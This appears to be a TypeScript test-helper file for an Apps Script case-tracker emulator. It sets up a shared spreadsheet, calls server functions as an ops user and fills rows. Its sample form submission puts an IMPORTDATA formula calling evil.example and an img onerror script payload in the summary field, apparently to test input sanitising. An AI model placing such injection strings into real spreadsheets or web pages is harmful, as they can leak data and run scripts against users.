/**
 * A set-up tracker for the intake and case-view tests, a valid form submission, and calls through the
 * google.script.run bridge as the ops user (the bundle is loaded fresh for each call, as in Apps Script).
 */
import {
  callServerFunction,
  clickMenuItem,
  createWorkspace,
  Execution,
  openSpreadsheet,
  type Workspace,
} from '../../emulator';
import { createServiceGlobals } from '../../emulator/globals';
import { CASE_FIELDS } from '../../src/core/schema/case-schema';
import { numberFormatFor } from '../../src/core/tracker/formats';

export const OWNER = 'lead@governance.example';
export const OPS = 'ana.ops@governance.example';

export function tracker() {
  const ws = createWorkspace({ users: [{ email: OWNER }, { email: OPS }], now: Date.UTC(2026, 10, 23, 9) });
  const spreadsheetId = ws.createSpreadsheet({ name: 'Tracker', owner: OWNER }).id;
  ws.shareSpreadsheet(spreadsheetId, OPS);
  openSpreadsheet(ws, { user: OWNER, spreadsheetId });
  clickMenuItem(ws, { user: OWNER, spreadsheetId, caption: 'Set up tracker' });
  return attachTracker(ws, spreadsheetId);
}

/** The owner's handles on a set-up tracker (also on a workspace restored from a snapshot of one). */
export function attachTracker(ws: Workspace, spreadsheetId: string) {
  const exec = new Execution(ws, { user: OWNER, authMode: 'FULL', activeSpreadsheetId: spreadsheetId });
  const services = createServiceGlobals(exec) as {
    SpreadsheetApp: GoogleAppsScript.Spreadsheet.SpreadsheetApp;
    LockService: GoogleAppsScript.Lock.LockService;
  };
  const ss = services.SpreadsheetApp.getActiveSpreadsheet();
  const cases = ss.getSheetByName('Cases')!;
  const headers = cases.getRange(1, 1, 1, cases.getLastColumn()).getValues()[0] as string[];
  const column = (header: string) => headers.indexOf(header) + 1;
  return { ws, spreadsheetId, ss, cases, headers, column, session: { user: OPS, spreadsheetId } };
}

export type Tracker = ReturnType<typeof tracker>;

/** What a person types into the New case form (messy on purpose: the server normalises it). */
export const FIELDS: Readonly<Record<string, string>> = {
  market: 'Deutschland',
  sellerId: 'S-4711',
  liveDate: '20/11/2026',
  policy: 'counterfeit',
  // The form proposes these from the Lists tab when an illegal-content policy is chosen.
  legalGround: 'Regulation (EU) 2017/1001, Art. 9',
  illegalityExplanation: 'A registered mark used without the owner’s consent.',
  action: 'product takedown',
  detectionSource: 'manual',
  automatedDecision: 'Not automated',
  severity: 'p2',
  summary: '=IMPORTDATA("https://evil.example") <img src=x onerror=alert(1)>',
  status: 'New',
};

/** Calls a public server function as the ops user's sidebar would; a thrown error fails the test. */
export function call<T>(ctx: Tracker, name: string, ...args: unknown[]): T {
  const reply = callServerFunction(ctx.ws, ctx.session, name, args);
  if (!reply.ok) throw new Error(reply.error.message);
  return reply.value as T;
}

/** The error message a call fails with (the test fails if it succeeds). */
export function callError(ctx: Tracker, name: string, ...args: unknown[]): string {
  const reply = callServerFunction(ctx.ws, ctx.session, name, args);
  if (reply.ok) throw new Error(`${name} was expected to fail`);
  return reply.error.message;
}

/**
 * The owner runs Set up tracker again, as after pasting rows in: rows without a Casebook record get one
 * sealed from their current values (rows written straight into the sheet by a test have none).
 */
export function sealRows(ctx: Tracker): void {
  clickMenuItem(ctx.ws, { user: OWNER, spreadsheetId: ctx.spreadsheetId, caption: 'Set up tracker' });
}

/**
 * Fills the Cases tab with `size` minimal rows (only a case ID), for service-call budgets, sealed by the
 * owner's Set up tracker. Rows added to make room get the formats setup gives the columns, so text
 * written there later stays text.
 */
export function fillLibrary(ctx: Tracker, size: number): void {
  ctx.cases.insertRowsAfter(ctx.cases.getMaxRows(), size);
  const rows = Array.from({ length: size }, (_, i) => {
    const row: unknown[] = new Array(ctx.headers.length).fill('');
    row[ctx.column('Case ID') - 1] = `CB-2026-${String(i + 1).padStart(5, '0')}`;
    return row;
  });
  ctx.cases.getRange(2, 1, size, ctx.headers.length).setValues(rows);
  for (const field of CASE_FIELDS) {
    const format = numberFormatFor(field);
    if (format)
      ctx.cases.getRange(2, ctx.column(field.header), ctx.cases.getMaxRows() - 1, 1).setNumberFormat(format);
  }
  sealRows(ctx);
}
